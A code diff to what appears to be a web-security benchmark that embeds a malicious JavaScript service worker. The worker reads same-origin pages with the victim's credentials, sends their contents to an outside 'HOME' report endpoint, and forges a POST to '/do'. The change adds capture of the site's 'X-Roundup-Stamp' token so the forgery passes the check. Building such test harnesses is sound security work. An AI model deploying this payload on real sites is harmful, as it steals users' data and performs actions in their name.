@@ -13,15 +13,16 @@ from benchmarks.proof.desk_siege import Judged, profile
 from benchmarks.proof.desk_target import Served, Target, served
 
 WAITING = "lets the page pass and then asks"
-"""The one that a guard cannot tell from the page."""
+"""The one that would see what the page asks with, did it still stand when the page has come."""
 
 _COMMON = """
 const tell = (what) => fetch(HOME + '/report?attack=left', {method: 'POST', mode: 'no-cors', body: String(what)}).catch(() => {});
 const keys = [];
+let stamp = 'guessed';
 const spy = async () => {
   for (const url of ['/', '/sheet', ...keys.map((key) => '/?key=' + key)])
-    try { const answer = await fetch(url, {credentials: 'include'}); await tell(answer.status + ' ' + await answer.text()); } catch (error) { await tell(error); }
-  try { await fetch('/do', {method: 'POST', credentials: 'include', headers: {'Content-Type': 'application/json', 'X-Roundup-Stamp': 'guessed'}, body: DEED}); } catch (error) { await tell(error); }
+    try { const answer = await fetch(url, {credentials: 'include', headers: {'X-Roundup-Stamp': stamp}}); await tell(answer.status + ' ' + await answer.text()); } catch (error) { await tell(error); }
+  try { await fetch('/do', {method: 'POST', credentials: 'include', headers: {'Content-Type': 'application/json', 'X-Roundup-Stamp': stamp}, body: DEED}); } catch (error) { await tell(error); }
 };
 addEventListener('install', () => skipWaiting());
 addEventListener('activate', (event) => event.waitUntil(clients.claim()));
@@ -29,6 +30,7 @@ addEventListener('fetch', (event) => {
   const url = new URL(event.request.url);
   if (url.origin !== location.origin) return;
   if (url.searchParams.get('key')) keys.push(url.searchParams.get('key'));
+  stamp = event.request.headers.get('X-Roundup-Stamp') || url.searchParams.get('stamp') || stamp;
   ANSWER
   event.waitUntil(spy());
 });
